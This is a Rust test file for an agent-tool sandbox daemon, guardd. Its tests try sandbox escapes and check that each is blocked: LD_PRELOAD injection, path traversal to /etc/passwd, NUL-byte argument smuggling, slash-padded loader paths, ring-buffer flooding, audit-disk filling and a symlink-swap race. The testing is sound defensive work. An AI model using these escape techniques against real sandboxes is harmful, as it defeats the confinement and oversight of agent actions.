        // Control: the same tool outside guard hears it, so the test can see the channel.
        let mut bare = Command::new(&s.tool);
        bare.args(["udp-recverr", family, "2"]);
        let (said, rest, out) = icmp_errors_to(bare, v6, payload);
        assert_eq!(said, "setsockopt ok recverr 1", "{out:?}");
        assert!(
            rest.contains(&heard),
            "the control heard nothing: {rest:?} {out:?}"
        );

        // The call: the option is answered 0 (glibc's resolver gives up on a refusal) and not
        // set, and nothing reaches it.
        let tool = guardd.exec("tt", &["a0=udp-recverr", &format!("a1={family}"), "a2=2"]);
        let (said, rest, out) = icmp_errors_to(tool, v6, payload);
        assert!(rest.is_empty(), "IPv{family}: the call heard {rest:?}");
        assert_eq!(said, "setsockopt ok recverr 0", "IPv{family}: {out:?}");
        assert_ok(&out);
        assert_verdict(&guardd, "conformed");
    }
}

#[test]
fn escape_kill_minus_one_reaches_no_process_outside_the_call() {
    if !support::privileged("escape_kill_minus_one_reaches_no_process_outside_the_call") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    let mut victim = same_user_victim();
    // kill(-1) signals every process the caller may signal, itself excepted. The kernel
    // answers 0 when it tried any process, even if each refused with EPERM, so the exit code
    // says nothing: the victim's survival is the assertion.
    let out = call(&guardd, &["kill", "-1", "9"]);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{out:?}");
    std::thread::sleep(Duration::from_millis(200));
    assert!(
        victim.try_wait().expect("try_wait").is_none(),
        "kill(-1) from inside a call killed a guard-tool process outside it"
    );
    let _ = victim.kill();
    let _ = victim.wait();
}

#[test]
fn escape_no_descriptor_beyond_stdio_is_inherited() {
    if !support::privileged("escape_no_descriptor_beyond_stdio_is_inherited") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    let secret = fs::File::open("/etc/hostname").expect("open");
    let mut cmd = guardd.exec("tt", &["a0=fds"]);
    let fd = std::os::fd::AsRawFd::as_raw_fd(&secret);
    // SAFETY: dup2 in the child between fork and exec is async-signal-safe; it leaves fd 9
    // open across exec in guard-exec, as a careless agent runtime would.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(fd, 9) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = output(cmd);
    assert_ok(&out);
    // 0, 1, 2 and the directory being listed.
    let line = text(&out.stdout);
    let fds: Vec<&str> = line
        .trim()
        .strip_prefix("fds ")
        .expect("fds line")
        .split(',')
        .collect();
    assert_eq!(fds.len(), 4, "{fds:?}");
    assert!(fds.starts_with(&["0", "1", "2"]), "{fds:?}");
}

#[test]
fn escape_the_environment_is_clean_and_loader_variables_in_args_are_refused() {
    if !support::privileged(
        "escape_the_environment_is_clean_and_loader_variables_in_args_are_refused",
    ) {
        return;
    }
    let s = Setup::new();
    let rule = r#"
[[rules]]
id = "no-loader-variables"
tools = ["tt"]
regex = '(?s).*\bLD_[A-Z_]+=.*'
action = "block"
message = "loader variables in arguments"
"#;
    let guardd = Guardd::start(&s.policy("", rule));
    let mut cmd = guardd.exec("tt", &["a0=env"]);
    cmd.env("LD_PRELOAD", "/tmp/evil.so")
        .env("LD_LIBRARY_PATH", "/tmp")
        .env("GUARD_ESCAPE_SECRET", "s3cr3t");
    let out = output(cmd);
    assert_ok(&out);
    let env = text(&out.stdout);
    assert!(env.ends_with("env end\n"), "{env}");
    for leaked in ["LD_PRELOAD", "LD_LIBRARY_PATH", "GUARD_ESCAPE_SECRET"] {
        assert!(!env.contains(leaked), "{leaked} reached the tool: {env}");
    }
    let out = call(
        &guardd,
        &["exec", "/usr/bin/env", "LD_PRELOAD=/tmp/evil.so", "true"],
    );
    assert_eq!(out.status.code(), Some(126), "{out:?}");
    assert!(!text(&out.stdout).contains("env"), "the tool ran: {out:?}");
    let row = guardd
        .audit_rows()
        .into_iter()
        .rev()
        .find(|r| r["kind"] == "decision")
        .expect("decision row");
    assert_eq!(row["decision"]["decision"], "block", "{row:#}");
}

#[test]
fn escape_hostile_arguments_are_blocked_by_policy() {
    if !support::privileged("escape_hostile_arguments_are_blocked_by_policy") {
        return;
    }
    let s = Setup::new();
    let ws = s.subdir("ws", 0o755);
    fs::write(ws.join("ok.txt"), "ok\n").expect("write");
    fs::set_permissions(ws.join("ok.txt"), fs::Permissions::from_mode(0o644)).expect("chmod");
    let extra = format!(
        r#"
[tools.cat]
tier = "low"
command = ["/bin/cat", "--", "{{path}}"]
[tools.cat.args.path]
type = "path"
within = ["{ws}"]
max_len = 4096
[tools.cat.effects]
read = ["{{path}}"]
"#,
        ws = ws.display()
    );
    let guardd = Guardd::start(&s.policy("", &extra));
    let ws_s = ws.display().to_string();
    let out = output(guardd.exec("cat", &[&format!("path={ws_s}/ok.txt")]));
    assert_ok(&out);
    assert_eq!(text(&out.stdout), "ok\n");

    // Arguments longer than execve allows one string (128 KiB) travel in a file.
    let long = s.dir.join("long.json");
    fs::write(
        &long,
        format!("{{\"path\":\"{ws_s}/{}\"}}", "a".repeat(200_000)),
    )
    .expect("write args");
    for args in [
        vec![format!("path={ws_s}/../../../../etc/passwd")],
        vec![format!("path={ws_s}/./../{}/ok.txt", "x")],
        vec![format!("path={ws_s}/{}", "a".repeat(5_000))],
        vec!["--args-file".to_owned(), long.display().to_string()],
    ] {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = output(guardd.exec("cat", &args));
        assert_eq!(
            out.status.code(),
            Some(126),
            "{:?}: {out:?}",
            &args[0][..80.min(args[0].len())]
        );
        assert!(out.stdout.is_empty());
    }
    // A NUL byte, which would cut a C string below the policy's view of it.
    let out = output(guardd.exec(
        "cat",
        &[
            "--args",
            &format!("{{\"path\":\"{ws_s}/ok.txt\\u0000/etc/passwd\"}}"),
        ],
    ));
    assert_eq!(out.status.code(), Some(126), "{out:?}");
    assert!(out.stdout.is_empty());
    // Over the 1 MiB frame limit: refused as a request, nothing runs.
    let huge = s.dir.join("huge.json");
    fs::write(
        &huge,
        format!("{{\"path\":\"{ws_s}/{}\"}}", "a".repeat(2 << 20)),
    )
    .expect("write args");
    let out = output(guardd.exec("cat", &["--args-file", &huge.display().to_string()]));
    assert!(!out.status.success(), "{:?}", out.status);
    assert!(out.stdout.is_empty());
    // Not UTF-8: JSON cannot carry it; guard-exec refuses before anything is sent.
    let mut cmd = Command::new(support::bin("guard-exec"));
    cmd.arg("--socket")
        .arg(&guardd.socket)
        .arg("cat")
        .arg(std::ffi::OsStr::from_bytes_lossless(
            &[b"path=".as_slice(), ws_s.as_bytes(), b"/\xff\xfe"].concat(),
        ));
    let out = output(cmd);
    assert!(!out.status.success(), "{:?}", out.status);
    assert!(out.stdout.is_empty());
    let finished = guardd
        .audit_rows()
        .iter()
        .filter(|r| r["kind"] == "finished")
        .count();
    assert_eq!(finished, 1, "only the control ran");
}

/// `OsStr` from raw bytes (Unix).
trait FromBytes {
    fn from_bytes_lossless(b: &[u8]) -> std::ffi::OsString;
}

impl FromBytes for std::ffi::OsStr {
    fn from_bytes_lossless(b: &[u8]) -> std::ffi::OsString {
        use std::os::unix::ffi::OsStrExt as _;
        std::ffi::OsStr::from_bytes(b).to_owned()
    }
}

#[test]
fn escape_a_write_that_gets_past_landlock_is_seen_in_the_kernel_and_kills_the_call() {
    if !support::privileged(
        "escape_a_write_that_gets_past_landlock_is_seen_in_the_kernel_and_kills_the_call",
    ) {
        return;
    }
    let s = Setup::new();
    let ws = s.subdir("ws", 0o777);
    let other = ws.join("other.txt");
    fs::write(&other, "untouched\n").expect("write");
    fs::set_permissions(&other, fs::Permissions::from_mode(0o666)).expect("chmod");
    // The call may create `new.txt`, which does not exist yet: landlock can only grant that on
    // the directory, so it lets the call write the directory's other files too.
    let new = ws.join("new.txt");
    let guardd = Guardd::start_with(
        &s.policy(&format!("write = [\"{}\"]", new.display()), ""),
        &["--trace-syscalls"],
    );
    let other_s = other.display().to_string();
    let out = call(
        &guardd,
        &["append", &other_s, "changed", "--", "sleep", "5"],
    );
    // The write went through (landlock allowed it), and the open observer caught it.
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    let files = seen["files"]["paths"]
        .as_array()
        .expect("files in the receipt");
    assert!(
        files
            .iter()
            .any(|f| f["path"] == other_s.as_str() && f["access"] == "write"),
        "{files:?}"
    );

    // Control: writing the declared file conforms, and is listed.
    let new_s = new.display().to_string();
    assert_ok(&call(&guardd, &["write", &new_s, "hello"]));
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "conformed", "{row:#}");
    let files = seen["files"]["paths"]
        .as_array()
        .expect("files in the receipt");
    assert!(
        files
            .iter()
            .any(|f| f["path"] == new_s.as_str() && f["access"] == "write" && f["result"] == "ok"),
        "{files:?}"
    );
}

#[test]
#[ignore = "open: a write target that does not exist widens landlock's create-and-write rights to \
            its parent, and a landlock rule covers the directory's whole subtree, not its own \
            entries; without --trace-syscalls nothing observes the writes"]
fn escape_a_widened_parent_opens_no_file_below_it() {
    if !support::privileged("escape_a_widened_parent_opens_no_file_below_it") {
        return;
    }
    let s = Setup::new();
    let ws = s.subdir("ws", 0o777);
    let sub = ws.join("sub");
    fs::create_dir(&sub).expect("mkdir");
    fs::set_permissions(&sub, fs::Permissions::from_mode(0o777)).expect("chmod");
    // A file below the parent, writable by the tool's user (another call's output, a hook).
    let hook = sub.join("hook");
    fs::write(&hook, "untouched\n").expect("write");
    fs::set_permissions(&hook, fs::Permissions::from_mode(0o666)).expect("chmod");
    let new = ws.join("new.txt");
    let guardd = Guardd::start(&s.policy(&format!("write = [\"{}\"]", new.display()), ""));
    // While `new.txt` does not exist (once it does, it is granted alone).
    let hook_s = hook.display().to_string();
    let out = call(&guardd, &["append", &hook_s, "changed"]);
    assert_eq!(fs::read_to_string(&hook).expect("read"), "untouched\n");
    assert_errno(&out, "EACCES");
    let made = sub.join("made");
    let out = call(&guardd, &["write", &made.display().to_string(), "x"]);
    assert!(
        !made.exists(),
        "a file was created below the parent: {out:?}"
    );
    // Control: the declared file.
    assert_ok(&call(
        &guardd,
        &["write", &new.display().to_string(), "hello"],
    ));
}

#[test]
fn escape_a_crash_leaves_no_core_dump_for_the_kernel_or_a_helper_to_write() {
    if !support::privileged(
        "escape_a_crash_leaves_no_core_dump_for_the_kernel_or_a_helper_to_write",
    ) {
        return;
    }
    let s = Setup::new();
    let ws = s.subdir("ws", 0o777);
    let guardd = Guardd::start(&s.policy(&format!("write = [\"{}\"]", ws.display()), ""));
    // Control: the call writes where it may.
    let mine = ws.join("mine.txt").display().to_string();
    assert_ok(&call(&guardd, &["write", &mine, "hello"]));
    assert_verdict(&guardd, "conformed");
    // A core dump is a file no syscall of the call opens: with a core_pattern that names a file
    // the kernel writes it beside the crash (landlock still judges that open), with a `|helper`
    // pattern (systemd-coredump, apport) a root helper stores the call's memory wherever it
    // keeps dumps. A call's core limit is 0, soft and hard: it cannot raise it, nothing dumps.
    let out = call(&guardd, &["core-dump", &ws.display().to_string()]);
    assert_errno(&out, "EPERM");
    let cores: Vec<_> = fs::read_dir(&ws)
        .expect("read ws")
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .filter(|n| n.to_string_lossy().starts_with("core"))
        .collect();
    assert!(cores.is_empty(), "a core dump was written: {cores:?}");
}

#[test]
fn escape_a_syscall_outside_strict_mode_takes_the_whole_tree() {
    if !support::privileged("escape_a_syscall_outside_strict_mode_takes_the_whole_tree") {
        return;
    }
    let s = Setup::new();
    // Strict mode: what the test tool needs to fork, wait and sleep, and getpid; not getuid.
    let policy = s.policy("", "").replacen(
        "timeout = 20\n",
        "timeout = 20\nsyscalls = [\"clone\", \"wait4\", \"clock_nanosleep\", \"nanosleep\", \
         \"poll\", \"sched_getaffinity\", \"getpid\", \"gettid\", \"futex\", \"madvise\"]\n",
        1,
    );
    let guardd = Guardd::start(&policy);
    // Control: the child's getpid is listed; the parent sleeps and exits 0.
    let getpid = libc::SYS_getpid.to_string();
    assert_ok(&call(
        &guardd,
        &["fork-syscall", &getpid, "--", "sleep", "0.1"],
    ));
    assert_verdict(&guardd, "conformed");
    // The child's getuid is not: seccomp kills the child, and guardd the rest of the call.
    let getuid = libc::SYS_getuid.to_string();
    let out = call(&guardd, &["fork-syscall", &getuid, "--", "sleep", "5"]);
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    let row = last_receipt(&guardd);
    assert_eq!(row["effects_observed"]["verdict"], "diverged", "{row:#}");
    assert_eq!(row["effects_observed"]["seccomp_kills"], 1, "{row:#}");
}

#[test]
fn escape_dot_dot_cannot_climb_out_of_an_approved_exec_directory() {
    if !support::privileged("escape_dot_dot_cannot_climb_out_of_an_approved_exec_directory") {
        return;
    }
    let s = Setup::new();
    // Both spellings, as the default policy has them (on a merged-/usr host they are one
    // directory, which the kernel approves by identity).
    let guardd = Guardd::start(&s.policy("exec = [\"/usr/bin\", \"/bin\"]", ""));
    // An approved directory approves the programs in it (make, sh, cc...).
    assert_ok(&call(&guardd, &["exec", "/usr/bin/true"]));
    assert_ok(&call(&guardd, &["exec", "/usr/bin/env", "true"]));
    assert_verdict(&guardd, "conformed");
    // Out of it through `..`, to the loader (which landlock must let the kernel open for every
    // program): a file nobody approved, killed.
    let ld = "/usr/bin/../lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";
    assert!(
        Path::new(ld).exists(),
        "{ld} missing: written for x86_64 glibc hosts"
    );
    let out = call(&guardd, &["exec", ld, "/usr/bin/true"]);
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert_verdict(&guardd, "diverged");
}

// --- Exec judged by identity (issue 12, class 1) ---

#[test]
fn escape_a_path_longer_than_any_buffer_cannot_spell_its_way_out_of_an_exec_directory() {
    if !support::privileged(
        "escape_a_path_longer_than_any_buffer_cannot_spell_its_way_out_of_an_exec_directory",
    ) {
        return;
    }
    // Landed on e4cd0a2 (run there: ld.so ran `evil`, exit 0): the kernel hashed the first 255 bytes of the filename, all of them
    // slashes below /usr/bin/, so the `..` to the loader was never seen, and ld.so ran a program
    // nobody approved. Now the kernel looks at the file the exec loaded (ld.so: not approved)
    // and kills it, however it was spelled.
    let s = Setup::new();
    // A program the call may read (any data file would do) but not run.
    let evil = s.dir.join("evil");
    std::fs::copy("/usr/bin/true", &evil).expect("copy a readable program");
    let effects = format!(
        "exec = [\"/usr/bin\", \"/bin\"]\nread = [\"{}\"]",
        evil.display()
    );
    let guardd = Guardd::start(&s.policy(&effects, ""));
    // The conforming control: programs of the approved directories, by either spelling, and a
    // shell running make's kind of pipeline.
    assert_ok(&call(&guardd, &["exec", "/usr/bin/true"]));
    assert_ok(&call(
        &guardd,
        &[
            "exec",
            "/bin/sh",
            "-c",
            "/usr/bin/env true && id -u >/dev/null && make --version >/dev/null",
        ],
    ));
    assert_verdict(&guardd, "conformed");

    let ld = "../lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";
    assert!(
        Path::new("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2").exists(),
        "written for x86_64 glibc hosts"
    );
    let long = format!("/usr/bin/{}{ld}", "/".repeat(290));
    assert!(long.len() > 300);
    let out = call(&guardd, &["exec", &long, evil.to_str().expect("utf-8")]);
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert_verdict(&guardd, "diverged");
    // The file itself, by any other spelling, is the same refusal.
    let out = call(
        &guardd,
        &[
            "exec",
            "/proc/self/root/usr/bin/../lib64/ld-linux-x86-64.so.2",
            evil.to_str().expect("utf-8"),
        ],
    );
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert_verdict(&guardd, "diverged");
}

// --- The open observer judges files, not paths (issue 12, class 2) ---

#[test]
fn escape_the_open_observer_cannot_be_blinded_by_how_a_path_is_written() {
    if !support::privileged("escape_the_open_observer_cannot_be_blinded_by_how_a_path_is_written") {
        return;
    }
    // The call may create ws/new.txt (missing, so landlock opens up ws/ and lets the call write
    // ws/other.txt too) and write in ws/out/. Each attack below writes ws/other.txt in a way
    // that blinds a path-based observer: (a) a relative path from a process that exits at once
    // (listed `?/other.txt`, not judged), (b) a path longer than 255 bytes whose first 255 lie in
    // ws/out/, (c) a path on a page not yet faulted in (read as "", so the writable working
    // directory), (d) after flooding the ring buffer, so that the write's event may be dropped.
    // Run on e4cd0a2: (a), (b) and (c) wrote the file and said `conformed` (twice in two runs);
    // (d) happened to keep the write's event there, and is asserted here by its lost events.
    // Now the kernel judges the file the open returned and counts it per call: each is killed
    // before its first write, `diverged`.
    let s = Setup::new();
    let ws = s.subdir("ws", 0o777);
    let out_dir = ws.join("out");
    fs::create_dir(&out_dir).expect("out");
    fs::set_permissions(&out_dir, fs::Permissions::from_mode(0o777)).expect("chmod");
    let other = ws.join("other.txt");
    let untouched = "untouched\n";
    fs::write(&other, untouched).expect("write");
    fs::set_permissions(&other, fs::Permissions::from_mode(0o666)).expect("chmod");
    let name_file = s.dir.join("name");
    fs::write(&name_file, format!("{}\0", other.display())).expect("name file");
    let effects = format!(
        "write = [\"{}\", \"{}\"]\nread = [\"{}\"]",
        ws.join("new.txt").display(),
        out_dir.display(),
        name_file.display()
    );
    let guardd = Guardd::start_with(&s.policy(&effects, ""), &["--trace-syscalls"]);
    let ws_s = ws.display().to_string();
    let name_s = name_file.display().to_string();
    // A working directory the call may write in: an unreadable path resolved to it looked fine.
    let out_s = out_dir.display().to_string();

    // Controls: the declared writes conform, relative and from a short-lived process too.
    assert_ok(&call(
        &guardd,
        &["chdir", &ws_s, "--", "fork-append", "new.txt", "hi"],
    ));
    assert_verdict(&guardd, "conformed");
    // Missing again, so that landlock opens up ws/ for the attacks.
    fs::remove_file(ws.join("new.txt")).expect("rm new.txt");
    let inside = format!("{}/{}x.txt", out_dir.display(), "/".repeat(250));
    assert_ok(&call(&guardd, &["write", &inside, "hi"]));
    assert_verdict(&guardd, "conformed");

    let long = format!("{}/{}../other.txt", out_dir.display(), "/".repeat(250));
    let attacks: [(&str, Vec<&str>); 4] = [
        (
            "relative, short-lived",
            vec!["chdir", &ws_s, "--", "fork-append", "other.txt", "changed"],
        ),
        ("longer than the buffer", vec!["append", &long, "changed"]),
        (
            "on an unfaulted page",
            vec![
                "chdir",
                &out_s,
                "--",
                "append-via-mapped-name",
                &name_s,
                "changed",
            ],
        ),
        (
            "after a flood",
            vec![
                "loop-open",
                &name_s,
                "100000",
                "--",
                "append",
                other.to_str().expect("utf-8"),
                "changed",
            ],
        ),
    ];
    // The flood runs against a guardd whose ring buffer is one page, so that it overflows
    // whatever the pump's speed: the case is about a write after lost events.
    let flooded = Guardd::start_with(
        &s.policy(&effects, ""),
        &["--trace-syscalls", "--event-ring-bytes", "4096"],
    );
    for (what, actions) in attacks {
        let guardd = if what == "after a flood" {
            &flooded
        } else {
            &guardd
        };
        let out = call(guardd, &actions);
        let row = last_receipt(guardd);
        let seen = &row["effects_observed"];
        assert_eq!(seen["verdict"], "diverged", "{what}: {out:?} {row:#}");
        assert!(
            seen["writes_outside"].as_u64() >= Some(1),
            "{what}: {row:#}"
        );
        assert!(
            matches!(out.status.code(), Some(137) | Some(1)),
            "{what}: killed (the forked writer's parent reports its death): {out:?}"
        );
        assert_eq!(
            fs::read_to_string(&other).expect("other"),
            untouched,
            "{what}: the write happened"
        );
        if what == "after a flood" {
            assert!(
                seen["events_lost"].as_u64() > Some(0),
                "the flood lost no event, so it proves nothing: {row:#}"
            );
        }
    }
}

// --- Receipts say what another layer stopped (issue 12, class 6) ---

#[test]
fn escape_an_attempt_another_layer_stopped_is_a_divergence_in_the_receipt() {
    if !support::privileged(
        "escape_an_attempt_another_layer_stopped_is_a_divergence_in_the_receipt",
    ) {
        return;
    }
    // Both landed on e4cd0a2 as `conformed` (run there): the attempt failed (EPERM, EACCES),
    // and the receipt did not know it had happened.
    let approved = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let other = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = approved.local_addr().expect("addr").port();
    let to_approved = format!("127.0.0.1:{port}");
    let to_other = other.local_addr().expect("addr").to_string();
    let s = Setup::new();

    // A tool with no connect effect, in the host's network namespace (it has `unix`), that
    // connects: the kernel's sock_create refuses its socket (seccomp used to, silently), and
    // says so; no --trace-syscalls needed.
    let guardd = Guardd::start(&s.policy("on_divergence = \"deny\"\nunix = true", ""));
    assert_errno(&call(&guardd, &["connect", &to_approved]), "EPERM");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    assert_eq!(seen["sockets"][0]["family"], "inet", "{row:#}");
    drop(guardd);
    // One that connects nowhere has a network namespace of its own: its loopback is its own
    // (nothing listens there: refused by nobody's policy, no divergence), and a connect out of
    // it is an attempt, refused and said.
    let guardd = Guardd::start(&s.policy("on_divergence = \"deny\"", ""));
    assert_errno(&call(&guardd, &["connect", &to_approved]), "ECONNREFUSED");
    assert_verdict(&guardd, "conformed");
    assert_errno(&call(&guardd, &["connect", "192.0.2.1:80"]), "EPERM");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    assert_eq!(seen["divergences"][0]["effect"], "connect", "{row:#}");
    // Without --trace-syscalls the receipt says what it could not see.
    let refusals = seen["verified"]["refusals"]
        .as_str()
        .expect("verified.refusals");
    assert!(refusals.starts_with("not observed"), "{row:#}");
    // Nor the reads landlock refused: it says so, and what would list them.
    let read = seen["verified"]["read"].as_str().expect("verified.read");
    assert!(
        read.contains("Not observed") && read.contains("--trace-syscalls"),
        "{row:#}"
    );
    drop(guardd);

    // A syscall seccomp refuses (ptrace): only the sys_exit observer of --trace-syscalls sees
    // it, as a refusal with the layer that stopped it; the receipt says it saw.
    let guardd = Guardd::start_with(
        &s.policy("on_divergence = \"deny\"", ""),
        &["--trace-syscalls"],
    );
    assert_ok(&call(&guardd, &["ids"]));
    assert_verdict(&guardd, "conformed");
    assert_errno(&call(&guardd, &["unshare-user"]), "EPERM");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    assert_eq!(
        seen["refused"][0],
        serde_json::json!({ "syscall": "unshare", "errno": "EPERM", "stopped_by": "seccomp" }),
        "{row:#}"
    );
    assert!(
        seen["verified"]["refusals"]
            .as_str()
            .is_some_and(|v| v.starts_with("kernel")),
        "{row:#}"
    );
    assert!(
        seen["verified"]["read"]
            .as_str()
            .is_some_and(|v| v.starts_with("kernel")),
        "{row:#}"
    );
    // A connect to the approved host on another port is the cgroup program's, reported once:
    // not a second time as a "seccomp" refusal at sys_exit.
    drop(guardd);
    let guardd = Guardd::start_with(
        &s.policy(
            &format!("connect = [\"{to_approved}\"]\non_divergence = \"deny\""),
            "",
        ),
        &["--trace-syscalls"],
    );
    assert_errno(&call(&guardd, &["connect", &to_other]), "EPERM");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    assert!(seen["refused"].is_null(), "{row:#}");
    assert_eq!(seen["denied"], 1, "{row:#}");
}

// --- The audit log cannot be starved (issue 12, class 5) ---

/// A small tmpfs, unmounted on drop.
struct SmallFs(std::path::PathBuf);

impl SmallFs {
    fn mount(at: &Path, size: &str) -> Self {
        let out = output({
            let mut c = Command::new("mount");
            c.args([
                "-t",
                "tmpfs",
                "-o",
                &format!("size={size},mode=0755"),
                "tmpfs",
            ])
            .arg(at);
            c
        });
        assert!(out.status.success(), "mount tmpfs: {out:?}");
        Self(at.to_owned())
    }
}

impl Drop for SmallFs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

#[test]
fn escape_a_call_that_fills_the_audit_file_system_cannot_starve_its_receipt() {
    if !support::privileged(
        "escape_a_call_that_fills_the_audit_file_system_cannot_starve_its_receipt",
    ) {
        return;
    }
    // On e4cd0a2 (run there, with --trace-syscalls, whose receipts need more than the log's last
    // page holds) the call that filled the file system and then diverged was killed, but its
    // `finished` row, the one holding the divergence, was never written, and guardd carried on.
    let s = Setup::new();
    let small = s.subdir("small", 0o755);
    let _fs = SmallFs::mount(&small, "16m");
    let ws = small.join("ws");
    fs::create_dir(&ws).expect("ws");
    fs::set_permissions(&ws, fs::Permissions::from_mode(0o777)).expect("chmod");
    fs::create_dir(small.join("audit")).expect("audit dir");
    let audit = small.join("audit/audit.jsonl");
    let policy = s.policy(&format!("write = [\"{}\"]", ws.display()), "");

    // Without the operator's opt-in, a policy that may write there is refused.
    fs::write(s.dir.join("policy.toml"), &policy).expect("policy");
    let refused = output({
        let mut c = Command::new(support::bin("guardd"));
        c.arg("--policy")
            .arg(s.dir.join("policy.toml"))
            .arg("--socket")
            .arg(s.dir.join("refused.sock"))
            .arg("--audit")
            .arg(&audit)
            .arg("--cgroup")
            .arg(support::unique("guard-e2e"));
        c
    });
    let stderr = text(&refused.stderr);
    assert_eq!(refused.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(&format!("tt: {}", ws.display()))
            && stderr.contains("--allow-writes-on-audit-fs"),
        "{stderr}"
    );

    let guardd = Guardd::start_with(
        &policy,
        &[
            "--audit",
            audit.to_str().expect("utf-8"),
            "--trace-syscalls",
        ],
    );
    // Control: a call writing its workspace runs and is recorded.
    assert_ok(&call(
        &guardd,
        &["write", ws.join("small.txt").to_str().expect("utf-8"), "hi"],
    ));
    assert_verdict(&guardd, "conformed");
    // Fill the file system, then diverge (an exec of an image with no path, killed).
    let big = ws.join("big");
    let out = call(
        &guardd,
        &[
            "fill",
            big.to_str().expect("utf-8"),
            "--",
            "memfd-exec",
            "ids",
        ],
    );
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    let row = last_receipt(&guardd);
    assert_eq!(row["effects_observed"]["verdict"], "diverged", "{row:#}");
    assert_eq!(
        row["call_id"],
        guardd.last_decision_id().as_str(),
        "{row:#}"
    );
    // The room kept past the log's end took that row. With every free block taken (here by
    // root, as by any writer of the file system), guardd admits no call of a caller that is
    // neither root nor an admin; root's still are, on the half of the room kept for them
    // (issue 49), and have their rows...
    let filler = small.join("filler");
    {
        use std::io::Write as _;
        let mut f = fs::File::create(&filler).expect("filler");
        while f.write_all(&[0u8; 65536]).is_ok() {}
    }
    for i in 0..2 {
        let file = ws.join(format!("more{i}.txt"));
        let out = call(&guardd, &["write", file.to_str().expect("utf-8"), "x"]);
        assert!(!text(&out.stderr).contains("not admitted"), "{out:?}");
        assert_eq!(guardd.last_decision_id(), last_receipt(&guardd)["call_id"]);
    }
    let status = output(guardd.ctl(&["status", "--json"]));
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).expect("status JSON");
    assert_eq!(status["audit"]["admitting"], false, "{status:#}");
    // ...and admits again once there is room.
    fs::remove_file(&filler).expect("rm filler");
    fs::remove_file(&big).expect("rm big");
    assert_ok(&call(
        &guardd,
        &["write", ws.join("more.txt").to_str().expect("utf-8"), "x"],
    ));
    assert_verdict(&guardd, "conformed");
    drop(guardd);
}

// --- Paths resolved once (issue 12, class 3) ---

#[test]
fn escape_a_path_re_pointed_after_the_decision_reads_nothing_outside() {
    if !support::privileged("escape_a_path_re_pointed_after_the_decision_reads_nothing_outside") {
        return;
    }
    // A `path` argument was resolved at decision time, again by landlock at launch and a third
    // time by the tool. Swapping a directory and a symlink to outside (renameat2 with
    // RENAME_EXCHANGE, in a loop) between those made some calls of e4cd0a2 print a file
    // outside `within` (run there: 5 and 10 of 60). Now landlock's rule is the inode guardd opened beneath the root
    // (`RESOLVE_BENEATH`): a swapped path fails the launch or the tool's open, never reads out.
    let s = Setup::new();
    let ws = s.subdir("ws", 0o755);
    let outside = s.subdir("outside", 0o755);
    fs::write(outside.join("f.txt"), "SECRET\n").expect("secret");
    let inner = ws.join("inner");
    fs::create_dir(&inner).expect("inner");
    fs::set_permissions(&inner, fs::Permissions::from_mode(0o755)).expect("chmod");
    fs::write(inner.join("f.txt"), "inside\n").expect("inside");
    for f in [outside.join("f.txt"), inner.join("f.txt")] {
        fs::set_permissions(&f, fs::Permissions::from_mode(0o644)).expect("chmod");
    }
    let link = ws.join("link");
    std::os::unix::fs::symlink(&outside, &link).expect("symlink");
    let policy = format!(
        r#"
[settings]
max_allowed_tier = "high"
disclose_reasons = true

[tools.read_file]
tier = "low"
command = ["/bin/cat", "--", "{{path}}"]
[tools.read_file.args.path]
type = "path"
within = ["{ws}"]
[tools.read_file.effects]
read = ["{{path}}"]
"#,
        ws = ws.display()
    );
    let guardd = Guardd::start(&policy);
    let target = format!("path={}", inner.join("f.txt").display());
    // Control, with nothing swapping: the file inside is read.
    let out = output(guardd.exec("read_file", &[&target]));
    assert_eq!(text(&out.stdout), "inside\n", "{out:?}");

    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let stop = stop.clone();
        let (a, b) = (
            std::ffi::CString::new(inner.as_os_str().as_encoded_bytes()).expect("path"),
            std::ffi::CString::new(link.as_os_str().as_encoded_bytes()).expect("path"),
        );
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                // SAFETY: two NUL-terminated paths; renameat2 has no memory effects.
                unsafe {
                    libc::syscall(
                        libc::SYS_renameat2,
                        libc::AT_FDCWD,
                        a.as_ptr(),
                        libc::AT_FDCWD,
                        b.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
            }
        })
    };
    let (mut leaked, mut read_inside) = (0, 0);
    for _ in 0..60 {
        let out = output(guardd.exec("read_file", &[&target]));
        let stdout = text(&out.stdout);
        leaked += usize::from(stdout.contains("SECRET"));
        read_inside += usize::from(stdout.contains("inside"));
    }
